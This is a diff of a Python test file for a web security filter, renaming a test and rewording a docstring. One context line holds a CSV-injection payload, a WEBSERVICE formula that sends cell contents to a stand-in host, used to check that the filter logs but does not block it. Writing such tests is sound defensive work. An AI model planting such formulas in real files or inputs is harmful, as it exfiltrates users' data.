@@ -1,4 +1,4 @@
-"""Kinds of payloads that few lists have, each refused wherever it stands."""
+"""Kinds of payloads that few lists contain, each refused in every place."""
 
 # ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
 from __future__ import annotations
@@ -136,7 +136,9 @@ def test_queries_that_clients_send_pass(inspection: Inspection) -> None:
         '=WEBSERVICE("http://evil.example/"&A1)',
     ],
 )
-def test_a_formula_is_told_and_not_refused(formula: str, caplog: pytest.LogCaptureFixture) -> None:
+def test_a_formula_is_reported_and_not_refused(
+    formula: str, caplog: pytest.LogCaptureFixture
+) -> None:
     site = Site(SecurityConfig())
     assert site.visit("/import", query_string="name=" + quote_plus(formula)).code == 200
     assert any("csv_injection in query 'name'" in message for message in caplog.messages)
